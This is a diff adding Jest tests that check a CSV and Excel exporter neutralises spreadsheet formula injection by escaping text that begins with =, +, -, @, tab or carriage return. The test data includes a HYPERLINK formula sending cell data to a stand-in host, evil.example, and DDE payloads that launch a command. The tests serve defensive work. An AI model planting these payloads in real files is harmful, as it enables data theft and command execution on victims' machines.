@@ -128,3 +128,40 @@ describe('writeCsv', () => {
     expect(table.rows).toEqual(expectedCells.map((cells, index) => ({ rowNumber: index + 2, cells })));
   });
 });
+
+describe('formulas in exported text never run in Excel', () => {
+  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', "'=1+1"];
+  const columnsOf: ColumnSpec[] = [{ key: 'name', header: '名称' }, { key: 'amount', header: '金額' }];
+  const attackRows: SheetSpec['rows'] = attacks.map((name, i) => ({ name, amount: -1000 * (i + 1) }));
+
+  it('writes text starting with = + - @ TAB CR behind a single quote in CSV, and keeps numbers as numbers', () => {
+    const lines = writeCsv(columnsOf, [...attackRows, { name: '-5', amount: 12.5 }]).subarray(3).toString('utf8').split('\r\n');
+    expect(lines.slice(1, 6)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""詳細"")",-1000`,
+      `'+cmd|' /C calc'!A0,-2000`,
+      `'@SUM(1+1)*cmd|' /C calc'!A0,-3000`,
+      `'-2+3+cmd|' /C calc'!A0,-4000`,
+      `'\t=1+1,-5000`,
+    ]);
+    // A carriage return inside a field needs quotes; text already quoted before a formula gets one more quote.
+    expect(lines[6]).toBe(`"'\r=1+1",-6000`);
+    expect(lines[7]).toBe(`''=1+1,-7000`);
+    expect(lines[8]).toBe('-5,12.5');
+  });
+
+  it('reads its own CSV back to the text that was written', async () => {
+    const table = await readTable(writeCsv(columnsOf, attackRows), 'x.csv');
+    expect(table.rows.map((row) => row.cells[0])).toEqual(attacks);
+  });
+
+  it('writes the same text into a workbook as plain strings, never as formulas', async () => {
+    const workbook = await load(await writeXlsx([{ name: '一覧', columns: columnsOf, rows: attackRows }]));
+    const sheet = workbook.getWorksheet('一覧')!;
+    const cells: ExcelJS.Cell[] = [];
+    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
+    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
+    // A workbook's XML keeps a carriage return as a line break.
+    expect(attacks.map((_, i) => sheet.getCell(i + 2, 1).value)).toEqual(attacks.map((text) => text.replace('\r', '\n')));
+    expect(sheet.getCell(2, 2).value).toBe(-1000);
+  });
+});
